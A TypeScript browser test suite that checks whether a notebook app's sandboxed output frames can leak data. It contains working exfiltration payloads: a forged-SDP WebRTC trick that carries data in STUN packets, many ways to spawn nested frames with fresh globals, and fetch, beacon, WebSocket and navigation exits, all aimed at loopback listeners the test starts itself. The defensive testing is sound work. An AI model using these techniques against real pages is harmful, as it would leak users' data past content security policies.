import { createSocket, type Socket } from 'node:dgram';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, BrowserContext, Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestTalkbook, type TestTalkbook } from '../helpers/talkbook.ts';
import { launchChromium, openPage, screenshot } from './support/browser.ts';

/**
 * What CSP cannot stop in an output frame: WebRTC. A frame script forges an SDP answer whose
 * ICE username carries data and whose candidate is a UDP port; Chromium then sends STUN
 * packets there about 20 times a second. Each payload below tries that (directly, or from a
 * nested document with fresh globals made in every way script can make one), and the other
 * ways out CSP is meant to close. A real UDP listener and an HTTP listener on loopback must hear
 * nothing; every payload must have run (each marks the frame), and no frame may hold a frame.
 */
describe('output frames cannot send anything out', { timeout: 240_000 }, () => {
  let talkbook: TestTalkbook;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let udp: Socket;
  let beacon: Server;
  const heard: string[] = [];
  let udpPort = 0;
  let base = '';

  beforeAll(async () => {
    udp = createSocket('udp4');
    // A STUN binding request names "<remote ufrag>:<local ufrag>": the payload's name.
    udp.on('message', (message) => {
      const heardOf = `udp from ${message.toString('latin1').match(/([a-z]{4,}):/)?.[1] ?? 'an unnamed sender'}`;
      if (!heard.includes(heardOf)) heard.push(heardOf);
    });
    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
    udpPort = udp.address().port;
    beacon = createServer((req, res) => {
      heard.push(`http: ${req.method} ${req.url}`);
      res.end();
    });
    beacon.on('connection', () => heard.push('tcp: connection'));
    await new Promise<void>((resolve) => beacon.listen(0, '127.0.0.1', resolve));
    base = `http://127.0.0.1:${(beacon.address() as AddressInfo).port}`;
    talkbook = await startTestTalkbook();
    browser = await launchChromium();
    ({ context, page } = await openPage(browser, { width: 1200, height: 900 }));
  });

  afterAll(async () => {
    await context?.close();
    await browser?.close();
    await talkbook?.close();
    udp?.close();
    beacon?.close();
  });

  /** The forged-SDP exfiltration, as a script: `leak(RTCPeerConnection, 'tag')`. */
  const leakFunction = () =>
    `function leak(RTC, tag) {
      var pc = new RTC({ iceServers: [] });
      pc.createDataChannel('x');
      return pc.createOffer().then(function (offer) {
        return pc.setLocalDescription(offer).then(function () {
          var sdp = ['v=0', 'o=- 1 1 IN IP4 127.0.0.1', 's=-', 't=0 0', 'a=group:BUNDLE 0',
            'm=application 9 UDP/DTLS/SCTP webrtc-datachannel', 'c=IN IP4 127.0.0.1', 'a=mid:0',
            'a=ice-ufrag:' + tag, 'a=ice-pwd:aaaaaaaaaaaaaaaaaaaaaaaa', offer.sdp.match(/a=fingerprint:[^\\r\\n]*/)[0],
            'a=setup:active', 'a=sctp-port:5000', 'a=candidate:1 1 udp 2130706431 127.0.0.1 ${udpPort} typ host', ''].join('\\r\\n');
          return pc.setRemoteDescription({ type: 'answer', sdp: sdp });
        });
      });
    }`;
  // Captured first: the "undo" payload replaces what it can.
  const mark = `var make = Document.prototype.createElement, append = Node.prototype.appendChild; function mark(text) { var p = make.call(document, 'p'); p.className = 'ran'; p.textContent = text; append.call(document.body, p); }`;
  /** A script that runs `body`, then marks the frame with `name` and what happened. */
  const script = (name: string, body: string) =>
    `<script>${leakFunction()}${mark}var outcome = 'ok'; try { ${body} } catch (error) { outcome = String(error && error.name); } mark('${name} ' + outcome);</script>`;
  /** The markup of a nested document that leaks on its own, with its own (fresh) globals. */
  const nestedLeak = (tag: string) => `<script>${leakFunction()}leak(RTCPeerConnection, '${tag}');</script>`;
  const attribute = (html: string) => html.replace(/&/g, '&amp;').replace(/"/g, '&quot;');
  const srcdocFrame = (tag: string) => `<iframe srcdoc="${attribute(nestedLeak(tag))}"></iframe>`;
  /** A JS string literal that is safe inside <script> (no "</script>" in it). */
  const js = (value: unknown) => JSON.stringify(value).replace(/<\//g, '<\\/');

  /**
   * name → markup (built once the listeners have their ports). The ICE username of each is its
   * name (4+ letters: ICE's minimum).
   */
  const payloadsFor = (): Record<string, string> => ({
    direct: script('direct', `leak(RTCPeerConnection, 'direct').catch(function () {});`),
    webkit: script('webkit', `leak(webkitRTCPeerConnection, 'webkit').catch(function () {});`),
    nestedparsed: srcdocFrame('nestedparsed') + script('nestedparsed', ''),
    srcdocscript: script('srcdocscript', `var f = document.createElement('iframe'); f.srcdoc = ${js(nestedLeak('srcdocscript'))}; document.body.appendChild(f);`),
    blankscript: script('blankscript', `var f = document.createElement('iframe'); document.body.appendChild(f); leak((f.contentWindow || window[0]).RTCPeerConnection, 'blankscript');`),
    blankindex: script('blankindex', `document.body.insertAdjacentHTML('beforeend', '<iframe name="blank"></iframe>'); leak(window[0].RTCPeerConnection, 'blankindex');`),
    innerhtml: script('innerhtml', `var d = document.createElement('div'); document.body.appendChild(d); d.innerHTML = ${js(srcdocFrame('innerhtml').replace('<iframe', '<IFRAME\n'))};`),
    outerhtml: script('outerhtml', `var d = document.createElement('div'); document.body.appendChild(d); d.outerHTML = ${js(srcdocFrame('outerhtml').replace('<iframe ', '<iframe/'))};`),
    adjacent: script('adjacent', `document.body.insertAdjacentHTML('beforeend', ${js(srcdocFrame('adjacent'))});`),
    range: script('range', `document.body.appendChild(document.createRange().createContextualFragment(${js(srcdocFrame('range'))}));`),
    domparser: script('domparser', `var doc = new DOMParser().parseFromString(${js(srcdocFrame('domparser'))}, 'text/html'); document.body.appendChild(document.importNode(doc.body.firstChild, true));`),
    template: script('template', `var t = document.createElement('template'); t.innerHTML = ${js(srcdocFrame('template'))}; document.body.appendChild(t.content.cloneNode(true));`),
    shadow: script('shadow', `var h = document.createElement('div'); document.body.appendChild(h); h.attachShadow({ mode: 'open' }).innerHTML = ${js(srcdocFrame('shadow'))};`),
    declarative: script('declarative', `document.body.setHTMLUnsafe(${js(`<div><template shadowrootmode="open">${srcdocFrame('declarative')}</template></div>`)});`),
    execcommand: script('execcommand', `var d = document.createElement('div'); d.contentEditable = 'true'; document.body.appendChild(d); d.focus(); document.execCommand('insertHTML', false, ${js(srcdocFrame('execcommand'))});`),
    splitwrite: script('splitwrite', `document.write('<ifr'); document.write(${js(`ame srcdoc="${attribute(nestedLeak('splitwrite'))}"></iframe>`)});`),
    elementns: script('elementns', `var f = document.createElementNS('http://www.w3.org/1999/xhtml', 'h:iframe'); f.setAttribute('srcdoc', ${js(nestedLeak('elementns'))}); document.body.appendChild(f);`),
    createdocument: script('createdocument', `var f = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'iframe').documentElement; f.setAttribute('srcdoc', ${js(nestedLeak('createdocument'))}); document.body.appendChild(document.adoptNode(f));`),
    custom: script('custom', `class Frame extends HTMLIFrameElement {} customElements.define('x-frame', Frame, { extends: 'iframe' }); var f = new Frame(); f.srcdoc = ${js(nestedLeak('custom'))}; document.body.appendChild(f);`),
    undo: script(
      'undo',
      `try { delete window.RTCPeerConnection; } catch (e) {} try { Object.defineProperty(window, 'RTCPeerConnection', { value: null }); } catch (e) {}
       try { Document.prototype.createElement = function () { return null; }; } catch (e) {}
       String.prototype.indexOf = function () { return -1; }; String.prototype.charCodeAt = function () { return 0; }; String.fromCharCode = function () { return ''; };
       try { trustedTypes.createPolicy('default', { createHTML: function (s) { return s; } }); } catch (e) {}
       document.body.insertAdjacentHTML('beforeend', ${js(srcdocFrame('undo'))});
       leak(RTCPeerConnection, 'undo');`,
    ),
    exits: script(
      'exits',
      `var tries = [
        function () { navigator.sendBeacon('${base}/beacon', 'x'); },
        function () { fetch('${base}/fetch').catch(function () {}); },
        function () { new WebSocket('${base.replace('http', 'ws')}/ws'); },
        function () { new EventSource('${base}/events'); },
        function () { new WebTransport('${base.replace('http', 'https')}/wt').ready.catch(function () {}); },
        function () { new Worker(URL.createObjectURL(new Blob(["fetch('${base}/worker')"], { type: 'text/javascript' }))); },
        function () { var a = document.createElement('a'); a.href = '#here'; a.target = '_self'; a.ping = '${base}/ping'; document.body.appendChild(a); a.click(); },
      ];
      for (var i = 0; i < tries.length; i++) { try { tries[i](); } catch (e) {} }`,
    ) + `<link rel="preconnect" href="${base}/preconnect"><link rel="dns-prefetch" href="${base}/dns"><link rel="prefetch" href="${base}/prefetch"><link rel="preload" as="fetch" href="${base}/preload">`,
  });
  /** These navigate the frame away (to a document the bootstrap never saw): no mark to read. */
  const navigationsFor = (): Record<string, string> => ({
    navdata: `<script>location.href = 'data:text/html,' + encodeURIComponent(${js(nestedLeak('navdata'))});</script>`,
    navblob: `<script>location.href = URL.createObjectURL(new Blob([${js(nestedLeak('navblob'))}], { type: 'text/html' }));</script>`,
    navrefresh: `<meta http-equiv="refresh" content="0;url=data:text/html,${encodeURIComponent(nestedLeak('navrefresh'))}">`,
  });

  const outputFrames = (): Frame[] => page.frames().filter((frame) => frame.parentFrame() === page.mainFrame());

  it('hears nothing from WebRTC, nested documents or any other way out', async () => {
    await page.goto(`${talkbook.url}/?token=${encodeURIComponent(talkbook.token)}`);
    const { id } = await talkbook.createConversation({ title: 'Frame exfiltration' });
    await page.goto(`${talkbook.url}/c/${id}`);
    expect(udpPort).toBeGreaterThan(0);
    const payloads = payloadsFor();
    const all = { ...payloads, ...navigationsFor() };
    const code = ['from IPython.display import HTML, display', `for markup in ${JSON.stringify(Object.values(all))}:`, '    display(HTML(markup))'].join('\n');
    const box = page.getByRole('textbox', { name: 'Message' });
    await box.fill(code);
    await box.press('Control+Enter');

    const names = Object.keys(payloads);
    await page.locator('iframe.output-frame').nth(Object.keys(all).length - 1).waitFor({ timeout: 90_000 });
    const marks = async () => {
      const seen: string[] = [];
      for (const frame of outputFrames()) seen.push(...(await frame.locator('p.ran').allTextContents().catch(() => [])));
      return seen;
    };
    const marked = async () => (await marks()).map((text) => text.split(' ')[0]).sort();
    await expect.poll(marked, { timeout: 60_000 }).toEqual([...names].sort()).catch(() => undefined);
    // STUN checks go out about 20 times a second once a forged answer is set: 3 s is plenty.
    await page.waitForTimeout(3000);
    await screenshot(page, 'frame-exfiltration', true);

    expect(heard).toEqual([]);
    // Every payload ran to its end, and none got a WebRTC constructor.
    expect(await marked()).toEqual([...names].sort());
    const outcomes = Object.fromEntries((await marks()).map((text) => text.split(' ') as [string, string]));
    expect(outcomes.direct).toBe('TypeError');
    expect(outcomes.webkit).toBe('TypeError');
    expect(outcomes.custom).toBe('NotSupportedError');
    expect(outcomes.splitwrite).toBe('TypeError');
    // No output frame holds a frame, and none navigated to a document of its own making.
    const nested = page.frames().filter((frame) => frame.parentFrame() !== null && frame.parentFrame() !== page.mainFrame());
    expect(nested.map((frame) => frame.url())).toEqual([]);
    for (const frame of outputFrames()) expect(frame.url()).not.toMatch(/^(data|blob):/);
    expect(await page.evaluate(() => window.length)).toBe(Object.keys(all).length);
  });

  it('still renders HTML with scripts that do not try to get out', async () => {
    const { id } = await talkbook.createConversation({ title: 'Benign HTML' });
    await page.goto(`${talkbook.url}/c/${id}`);
    const markup = `<div id="t">static</div><script>var el = document.createElement('b'); el.textContent = 'scripted'; document.getElementById('t').appendChild(el); document.getElementById('t').insertAdjacentHTML('beforeend', '<i>html</i>');</script>`;
    const box = page.getByRole('textbox', { name: 'Message' });
    await box.fill(`from IPython.display import HTML, display\ndisplay(HTML(${JSON.stringify(markup)}))`);
    await box.press('Control+Enter');
    await page.locator('iframe.output-frame').waitFor({ timeout: 60_000 });
    const frame = page.frameLocator('iframe.output-frame');
    await expect.poll(() => frame.locator('#t').textContent(), { timeout: 30_000 }).toBe('staticscriptedhtml');
  });

  // Last (it makes the listener hear something): the silence above means the lockdown held, not
  // that this Chromium or this listener could never carry the attack.
  it('hears the same forged-SDP attack from a page without the frame lockdown', async () => {
    const control = await context.newPage();
    try {
      await control.setContent(`<script>${leakFunction()}leak(RTCPeerConnection, 'control');</script>`);
      await expect.poll(() => heard, { timeout: 30_000 }).toContain('udp from control');
    } finally {
      await control.close();
    }
  });
});
